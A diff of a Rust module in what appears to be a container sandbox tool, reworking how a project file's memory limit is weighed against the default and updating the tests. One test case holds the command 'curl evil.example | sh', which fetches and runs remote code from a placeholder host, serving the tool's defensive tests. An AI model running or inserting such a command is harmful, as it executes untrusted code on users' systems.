@@ -11,7 +11,7 @@ use serde::{Deserialize, Serialize};
 
 use crate::allowlist::{self, Entry};
 use crate::config::{ClaudeConfig, Forward, ForwardKeyword, GitMode, ProjectFile, Settings};
-use crate::container::{DEFAULT_CPUS_CEILING, DEFAULT_MEMORY_CEILING};
+use crate::container::{DEFAULT_CPUS_CEILING, DEFAULT_MEMORY_FLOOR};
 
 /// One setting by which a project file widens the sandbox.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
@@ -137,14 +137,19 @@ pub fn widenings(below: &Settings, with: &Settings) -> Vec<Widening> {
             ),
         );
     }
-    let memory = |m: Option<u64>| m.unwrap_or(DEFAULT_MEMORY_CEILING);
+    // The default memory limit is half the engine's (not known here), at least the floor: a
+    // project's figure above the floor can be more than the default on a small engine.
+    let memory = |m: Option<u64>| m.unwrap_or(DEFAULT_MEMORY_FLOOR);
     if memory(resources.memory) > memory(below.resources.memory) {
+        let from = match below.resources.memory {
+            Some(m) => size(m),
+            None => "the default: half the engine's memory, at least 512 MiB".into(),
+        };
         add(
             "resources.memory",
             format!(
-                "raises the memory limit to {} (from {})",
-                size(memory(resources.memory)),
-                size(memory(below.resources.memory))
+                "raises the memory limit to {} (from {from})",
+                size(memory(resources.memory))
             ),
         );
     }
@@ -582,6 +587,7 @@ mod tests {
                 "resources.cpus",
             ),
             ("", "resources: {memory: 9g}", "resources.memory"),
+            ("", "resources: {memory: 1g}", "resources.memory"),
             (
                 "resources: {memory: 1g}",
                 "resources: {memory: 2g}",
@@ -653,8 +659,9 @@ mod tests {
                 "default_allowlist: false\ntokens: {forward: none}\nresources: {cpus: 1}\n",
             ),
             ("", "command: [sh, -c, 'curl evil.example | sh']"),
-            ("", "resources: {cpus: 4, memory: 8g, pids: 4096}"),
-            ("", "resources: {memory: 2g, pids: 100}"),
+            ("", "resources: {cpus: 4, memory: 512m, pids: 4096}"),
+            ("", "resources: {memory: 256m, pids: 100}"),
+            ("resources: {memory: 4g}", "resources: {memory: 2g}"),
             ("", "allow: [github.com, 'api.github.com:443']"),
             (
                 "allow: ['*.example.com']",
@@ -694,14 +701,14 @@ mod tests {
     }
 
     #[test]
-    fn limits_unset_below_are_weighed_as_the_built_in_ceilings() {
+    fn limits_unset_below_are_weighed_as_the_least_the_defaults_give() {
         let w = widened("", "resources: {cpus: 8, memory: 16g, pids: 0}");
         let text: Vec<String> = w.iter().map(ToString::to_string).collect();
         assert_eq!(
             text,
             [
                 "`resources.cpus`: raises the CPU limit to 8 (from 4)",
-                "`resources.memory`: raises the memory limit to 16 GiB (from 8 GiB)",
+                "`resources.memory`: raises the memory limit to 16 GiB (from the default: half the engine's memory, at least 512 MiB)",
                 "`resources.pids`: removes the process limit (from 4096)",
             ]
         );
